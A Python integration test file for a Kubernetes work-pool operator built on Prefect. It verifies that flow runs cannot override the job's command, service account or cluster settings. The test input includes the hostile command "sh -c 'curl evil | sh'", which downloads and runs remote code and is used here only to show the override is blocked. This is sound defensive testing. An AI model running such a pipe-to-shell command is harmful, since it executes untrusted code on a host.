"""Creating and updating the kubernetes work pool on a real Prefect server."""

from __future__ import annotations

import pytest

from radps_operator.work_pool import FlowPodOptions, base_job_template, ensure_work_pool
from tests.conftest import RadpsServer

pytestmark = pytest.mark.integration


def test_pool_is_created_then_updated(radps_server: RadpsServer):
    from prefect.client.orchestration import get_client
    from prefect.settings import PREFECT_API_URL, temporary_settings

    with temporary_settings({PREFECT_API_URL: radps_server.api_url}):
        first = base_job_template(FlowPodOptions(image="radps:1"))
        assert ensure_work_pool("radps-test-k8s", first) == "created"
        second = base_job_template(FlowPodOptions(image="radps:2", data_claim="d"))
        assert ensure_work_pool("radps-test-k8s", second) == "updated"
        with get_client(sync_client=True) as client:
            pool = client.read_work_pool("radps-test-k8s")
    assert pool.type == "kubernetes"
    assert pool.base_job_template["variables"]["properties"]["image"]["default"] == "radps:2"


def test_command_and_service_account_cannot_be_overridden_by_a_flow_run(
    radps_server: RadpsServer,
):
    """Anyone holding the Prefect credential may create flow runs with job variables; those
    that would change what runs, or as whom, are not variables of the template, so prefect-
    kubernetes renders the Job the same whatever they say."""
    import asyncio

    from prefect.settings import PREFECT_API_URL, temporary_settings
    from prefect_kubernetes.worker import KubernetesWorkerJobConfiguration

    template = base_job_template(FlowPodOptions(service_account="radps-flow"))
    assert not {"command", "service_account_name", "cluster_config"} & set(
        template["variables"]["properties"]
    )
    abuse = {
        "command": "sh -c 'curl evil | sh'",
        "service_account_name": "default",
        "cluster_config": {"config": {}, "context_name": "elsewhere"},
        "namespace": "astro",
    }
    # (it resolves block and variable references through the API, as the worker does)
    with temporary_settings({PREFECT_API_URL: radps_server.api_url}):
        configuration = asyncio.run(
            KubernetesWorkerJobConfiguration.from_template_and_values(template, abuse)
        )
    pod = configuration.job_manifest["spec"]["template"]["spec"]
    assert pod["serviceAccountName"] == "radps-flow"
    command = ["python", "-m", "radps_flows.origin", "--", "prefect", "flow-run", "execute"]
    assert pod["containers"][0]["args"] == command
    assert configuration.command == " ".join(command)
    assert configuration.cluster_config is None
    assert configuration.namespace == "astro"  # the operator places runs with it
